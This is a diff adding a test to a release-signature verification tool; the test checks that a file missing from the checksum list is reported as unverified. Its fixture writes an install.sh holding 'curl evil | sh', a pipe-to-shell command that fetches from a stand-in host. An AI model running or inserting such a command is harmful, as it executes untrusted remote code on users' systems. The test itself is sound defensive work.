@@ -215,3 +215,13 @@ def test_signature_is_what_openssl_verifies(release: Path, keypair):
                            "-signature", "SHA256SUMS.sig", "SHA256SUMS"], cwd=release,
                           capture_output=True, text=True, check=False)
     assert proc.returncode == 0 and "Verified OK" in proc.stdout
+
+
+def test_unlisted_file_is_shown_not_trusted(cli, release: Path, keypair):
+    (release / "install.sh").write_text("curl evil | sh\n")
+    (release / "release.pub").write_bytes(keypair[1].read_bytes())
+    result = verify(cli, release, keypair[1])
+    assert result.code == 0, result.out
+    assert "SKIP  unlisted    install.sh: in no checksums file: not verified" in result.out
+    # signature material and keys are not release content
+    assert "release.pub" not in result.out and "unlisted    SHA256SUMS" not in result.out
